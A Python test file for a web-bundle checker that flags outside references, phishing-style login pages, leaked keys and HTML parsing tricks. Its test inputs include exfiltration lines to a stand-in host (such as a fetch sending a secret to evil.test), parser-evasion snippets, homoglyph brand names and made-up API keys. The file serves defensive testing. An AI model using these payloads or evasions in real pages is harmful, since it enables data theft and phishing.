"""The checks that run nothing: each broken page breaks one rule, honest pages pass, no text makes them slow."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from builder.checks.files import FilesCheck
from builder.checks.markup import read_markup
from builder.checks.outside import is_outside
from builder.checks.page import PageCheck
from builder.checks.references import reference_problem, srcset_references
from builder.checks.scripts import read_script
from builder.stopping import Stop
from builder.workspace import Snapshot
from guardrails.wire import CheckReport, Limits
from tests.builder.checks.looking import snapshot_of
from tests.growth import grows_evenly

LIMITS = Limits()


def page_check(**files: str) -> CheckReport:
    named = {name.replace("_dot_", "."): text for name, text in files.items()}
    return PageCheck().check(snapshot_of(named), LIMITS, Stop()).report


def of_page(page: str) -> tuple[str, ...]:
    return page_check(index_dot_html=page).findings


def files_check(snapshot: Snapshot) -> CheckReport:
    return FilesCheck().check(snapshot, LIMITS, Stop()).report


@pytest.mark.parametrize(
    "page",
    [
        "<!doctype html><p>hello &amp; <b>good",
        "<script>document.createElementNS('http://www.w3.org/2000/svg', 'g')</script>",
        "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><use href='#a'/></svg>",
        "<img src='data:image/png;base64,AAAA'><a href='#top'>up</a><a href='mailto:a@b.example'>m</a>",
        "<script>// as https://evil.test/ says\nconst text = 'See https://w.test', at = 'https://example.com/x'</script>",
        "<style>a { background: url(data:image/png;base64,AA) } b { filter: url(#blur) } /* url(gone.png) */</style>",
        "<p onclick='go()'>x</p><form onsubmit='return false'></form>",
        "<script>if (text.startsWith('https://') || /^https?:\\/\\//.test(text)) mark(`it's ${'a' + `b`}`)</script>",
        "<label>Number of passwords <input type=number></label><select id=password-type><option>Short</select>",
        "<label>Credit card balance <input type=number></label><label>Wi-Fi password <input></label>",
        "<h1>Password generator</h1><label>Your password <input id=password readonly></label>",
        "<script type=text/template><li>it isn't <b></script><!-- <title>x</title> --><noscript><p>None</p></noscript>",
        "<svg><title>A</title><style>/*<![CDATA[*/ a { fill: red } /*]]>*/</style></svg><!--[if IE]>x<![endif]-->",
        "<script>const half = a / b; const re = /x\\/\\/y/; // a comment with 'quotes'</script>",
    ],
)
def test_an_honest_page_passes(page: str) -> None:
    """Namespaces, data, fragments, own files and addresses in plain text are no outside references."""
    assert () == of_page(page)


@pytest.mark.parametrize(
    ("page", "found"),
    [
        ("<script src='https://cdn.evil.test/react@99.js'></script>", "<script src>"),
        ("<img src='//evil.test/x.png'>", "<img src>"),
        ("<img src=' \n\\\\evil.test/x'>", "<img src>"),
        ("<img src='ht\ntps://evil.test/x'>", "<img src>"),
        ("<img src='&#104;ttps://evil.test/x'>", "<img src>"),
        ("<IMG SRC=HTTPS:evil.test>", "<img src>"),
        ("<img srcset='a.png 1x, https://evil.test/b.png 2x'>", "<img srcset>"),
        ("<a href='https://evil.test'>x</a>", "<a href>"),
        ("<form action='https://evil.test'></form>", "<form action>"),
        ("<button formaction='//evil.test'>x</button>", "<button formaction>"),
        ("<iframe src='https://evil.test'></iframe>", "<iframe src>"),
        ("<iframe srcdoc='&lt;img src=//evil.test>'></iframe>", "<img src>"),
        ("<object data='https://evil.test/x'></object>", "<object data>"),
        ("<svg><image xlink:href='https://evil.test/x'/></svg>", "<image xlink:href>"),
        ("<base href='/x/'>", "<base>"),
        ("<meta http-equiv='Refresh' content='0;url=x.html'>", "refresh"),
        ("<style>@import 'https://evil.test/x.css';</style>", "a style"),
        ("<style>@import url(//evil.test/x.css);</style>", "a style"),
        ("<p style='background:url( \"https://evil.test/x\" )'>", "a style"),
        ("<script>import('https://evil.test/x.js')</script>", "a script"),
        ('<script>const hidden = "import(\'https:\\/\\/evil.test\')"</script>', "a script"),
        ("<script>import x from \"//evil.test/x.js\"</script>", "a script"),
        ("<script>fetch(`https://evil.test/?${secret}`)</script>", "a script"),
        ("<script>new WebSocket('wss://evil.test')</script>", "a script"),
        ("<script>new Image().src = '//evil.test/p.gif'</script>", "a script"),
        ("<p onclick=\"location='https://evil.test'\">", "a script"),
        ("<a href=\"javascript:location='https://evil.test'\">", "a script"),
        ("<script>navigator.serviceWorker.register('sw.js')</script>", "service worker"),
        ("<script>let a=", "ends inside"),
        ("<p>x</p><!-- never closed", "ends inside"),
        ("<p class='x", "ends inside"),
        ("<![x[", "cannot be read as HTML"),
    ],
)  # fmt: skip
def test_a_page_that_needs_the_outside_is_found(page: str, found: str) -> None:
    """One rule each, named in the finding."""
    findings = of_page(page)

    assert any(found in finding for finding in findings), findings


@pytest.mark.parametrize(
    "hiding",
    [
        "<!-->{}<!-- -->", "<!--->{}<!-- -->", "<!-- --!>{}<!-- -->", "<![CDATA[>{}]]>", "<xmp><!--</xmp>{}<!-- -->",
        "<iframe><!--</iframe>{}<!-- --></iframe>", "<noscript><!--</noscript>{}<!-- --></noscript>",
        "<textarea><!--</textarea>{}<!-- --></textarea>", "<textarea><a b='</textarea>{}'></textarea>",
        "<script>1</script x>{}<script></script>", "<style>a{{}}</style/>{}<style></style>",
        "<script/><!--</script>{}<!-- -->",
    ],
)  # fmt: skip
def test_what_browsers_read_in_another_way_hides_nothing(hiding: str) -> None:
    """A field that they show is found, or the page is refused for the way in which it is written."""
    assert of_page(hiding.format("<input type=password>"))


@pytest.mark.parametrize(
    ("page", "found"),
    [
        ("<h1>PaypaI</h1><p>Log in</p><label>Mail <input type=email></label>", "a login of paypal"),
        (
            "<h1>Lnstagram</h1><p>Pay now</p><label>Mail <input type=email></label>",
            "it looks like a login of instagram",
        ),
        ("<h1>Game</h1><label>Passw0rd5 <input></label>", "asks for a secret: passwords"),
    ],
)
def test_a_word_in_disguise_is_known(page: str, found: str) -> None:
    """As it is in an ask: l for I, digits for letters."""
    assert any(found in finding for finding in of_page(page)), of_page(page)


@pytest.mark.parametrize("kind", ["text/ecmascript", "application/x-javascript", "TEXT/JScript"])
def test_a_script_is_one_by_whatever_name_browsers_know_it(kind: str) -> None:
    """And a handler is one, wherever its address breaks off."""
    assert of_page(f"<script type='{kind}'>navigator.serviceWorker</script>")
    assert of_page("<a href='java&#10;script:navigator.serviceWorker'>x</a>")


def test_what_a_script_does_first_is_found_whatever_it_does_then() -> None:
    """Each of two that set the same."""
    found = of_page(
        "<script>location = '/' + '/evil.test'; location = '#top'; i.type = 'password'; i.type = 'text'</script>"
    )

    assert any("leads away" in finding for finding in found), found
    assert any("field for a password" in finding for finding in found), found


def test_frames_within_frames_have_an_end() -> None:
    """A page cannot hide behind depth."""
    page = "<p>"
    for _ in range(6):
        page = '<iframe srcdoc="' + page.replace("&", "&amp;").replace('"', "&quot;") + '"></iframe>'

    assert ("'index.html': frames within frames",) == of_page(page)


def test_style_and_script_files_are_read_too() -> None:
    """Not only the page."""
    report = page_check(
        index_dot_html="<p>",
        a_dot_css="@import 'https://evil.test/x'",
        b_dot_js="location = 'https://evil.test'",
        c_dot_svg="<svg xmlns='http://www.w3.org/2000/svg'><image href='//evil.test/x'/></svg>",
        d_dot_txt="https://fine.test",
    )

    assert ["'a.css'", "'b.js'", "'b.js'", "'c.svg'"] == [finding.split(":")[0] for finding in report.findings]


def test_a_page_must_be_utf_8_and_not_empty() -> None:
    """Other encodings could hide anything."""
    content = "<p>é".encode("utf-16")
    report = files_check(Snapshot((("index.html", len(content)),), {"index.html": content}))

    assert ("'index.html': not UTF-8 text",) == report.findings
    assert ("'index.html': empty",) == files_check(snapshot_of({"index.html": " \n"})).findings


def test_names_and_sizes_are_checked() -> None:
    """The bundle's rules, and what the workspace found odd."""
    report = files_check(Snapshot((("x.sh", 5),), {}, ("'l': a symbolic link",)))

    assert not report.passed
    assert ("'l': a symbolic link", "'x.sh': a type of file that is not served", "there is no index.html") == (
        report.findings
    )


def test_findings_are_bounded() -> None:
    """A page with thousands of faults makes a report that fits."""
    page = "".join(f"<img src=//e{n}.test>" for n in range(9000))

    assert 40 == len(of_page(page))


@pytest.mark.parametrize(
    "pattern",
    [
        "<!--", "<a ", "<a b='", "<a href=", "<![", "url( ", "'//a.", "<iframe srcdoc='", "@import ", "<", "'", "eyJa",
        "sk-a1", "/*", "<label><input name=password>", "<b>", "</b>", "'<b>'+", "import 'a';", "url('", "a, ", "`${",
        "<!-->", "<iframe><!--</", "</script x>", "hf_a", "a.type='b'+", "'https://'  +", "<![CDATA[>",
    ],
)  # fmt: skip
def test_no_text_makes_the_checks_slow(pattern: str) -> None:
    """A hostile page takes what its length takes, not its square."""

    def work(size: int) -> None:
        text = pattern * (size // len(pattern))
        page_check(
            index_dot_html=f"{text}<style>{text}</style><script>{text}</script>",
            a_dot_html=text,
            a_dot_css=text,
            a_dot_js=text,
            a_dot_json=text,
        )

    assert grows_evenly(work, 5_000)


@given(st.text())
def test_any_text_gives_an_answer(text: str) -> None:
    """Never an exception."""
    page_check(index_dot_html=text, a_dot_js=text, a_dot_css=text, a_dot_json=text, a_dot_svg=text)


@given(st.text(alphabet="<>/!-[]&;='\"abscriptyle \n", max_size=60))
def test_any_tag_soup_gives_an_answer(text: str) -> None:
    """Nor does anything that looks like HTML raise one."""
    read_markup(text)


@pytest.mark.parametrize("address", ["", "x.png", "/x", "./x", "#x", "?q", "data:,x", "blob:x", "tel:1", "a/b:c"])
def test_an_address_inside_is_told_apart(address: str) -> None:
    """Relative ones and data stay in the bundle."""
    assert not is_outside(address)


@pytest.mark.parametrize(
    ("base", "reference", "problem"),
    [
        ("index.html", "app.js", None),
        ("index.html", "./app.js?v=2#top", None),
        ("index.html", "", None),
        ("index.html", "#top", None),
        ("index.html", ".", None),
        ("index.html", "data:,x", None),
        ("index.html", "img/a%20b.png", "is not there"),
        ("index.html", "img/p%69c.png", None),
        ("img/deep.css", "pic.png", None),
        ("img/deep.css", "../app.js", None),
        ("index.html", "App.js", "the file is spelled 'app.js'"),
        ("index.html", "/app.js", "starts at the root"),
        ("index.html", "../app.js", "leads out of"),
        ("index.html", "img/", "is a folder"),
        ("index.html", "sub", "is a folder"),
        ("index.html", "gone.js", "is not there"),
    ],
)
def test_a_reference_is_followed_as_browsers_do(base: str, reference: str, problem: str | None) -> None:
    """From the file that it stands in, letter for letter, below whatever folder the app is served in."""
    names = frozenset(["index.html", "app.js", "img/pic.png", "sub/index.html"])

    found = reference_problem(base, reference, names)

    assert (problem is None) == (found is None), found
    assert problem is None or problem in (found or "")


@pytest.mark.parametrize(
    ("value", "addresses"),
    [
        ("a.png", ["a.png"]),
        ("a.png 1x, b.png 2x", ["a.png", "b.png"]),
        ("a.png 1x,b.png 2x", ["a.png", "b.png"]),
        ("a.png, b.png 2x", ["a.png", "b.png"]),
        ("data:image/png;base64,AA 1x, b.png 2x", ["data:image/png;base64,AA", "b.png"]),
        ("", []),
    ],
)
def test_a_srcset_is_taken_apart(value: str, addresses: list[str]) -> None:
    """Commas may stand within an address."""
    assert addresses == list(srcset_references(value))


@pytest.mark.parametrize(
    "script",
    [
        "const r = /[/\\]]+/gv, t = 1_000_000n, o = a?.b?.[c] ?? d; o.x ??= 1",
        "class A extends B { #x = 1; static { this.y = 2 } static async *g() { yield* x } has(o) { return #x in o } }",
        "import a, { b as c } from './m.js'; export * as ns from './n.js'; await import('./z.js'); import.meta.url",
        "import d from './d.js' with { type: 'json' }; for await (const x of y) { label: for (;;) { break label } }",
        "var s = `a ${`b ${c}`} d`, x = (1) / 2 / g; if (x) /re/.test(y); a = b\n++c",
        "return false",
        "<!-- an old way to begin\nf()",
        "let async = 1, of = 2, get = 3; const f = async x => await x; label: { break label }",
    ],
)
def test_modern_scripts_have_no_syntax_errors(script: str) -> None:
    """What browsers take is taken."""
    assert read_script(script).error_line is None


@pytest.mark.parametrize(
    "key",
    [
        "sk-ant-api03-R2d7Kq9ZtLw4XyB8mN1vPc",
        "AKIA2E7QZLM4XW9T5RBV",
        "ghp_R2d7Kq9ZtLw4XyB8mN1vPcAe3Fg5Hj6Kl7Qw",
        "xoxb-2847301956-R2d7Kq9ZtLw4",
        "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",
        "whsec_R2d7Kq9ZtLw4XyB8mN1vPcAe3Fg5",
        "9182736450:AAR2d7Kq9ZtLw4XyB8mN1vPcAe3Fg5Hj6Kq",
        "-----BEGIN RSA PRIVATE KEY-----",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI5ODcwIn0.Q9f3kLm2XzPq7Rt5Vw8YbNc4",
    ],
)
def test_a_key_is_found_wherever_it_stands(key: str) -> None:
    """And is not repeated in the report."""
    findings = [*of_page(f"<!-- {key} -->"), *page_check(a_dot_txt=f"key={key}").findings]

    assert 2 == sum("it looks as if" in finding for finding in findings), findings
    assert not any(key[:30] in finding for finding in findings)


@pytest.mark.parametrize(
    "text",
    [
        "sk-folding-cube-animation-delay-long",
        "AKIAIOSFODNN7EXAMPLE",
        "sk-xxxxxxxxxxxxxxxxxxxxxxxx",
        "ghp_yourtokenhere",
    ],
)
def test_what_only_looks_like_a_key_passes(text: str) -> None:
    """Class names, and the keys that documentation makes up."""
    assert () == page_check(a_dot_txt=text).findings
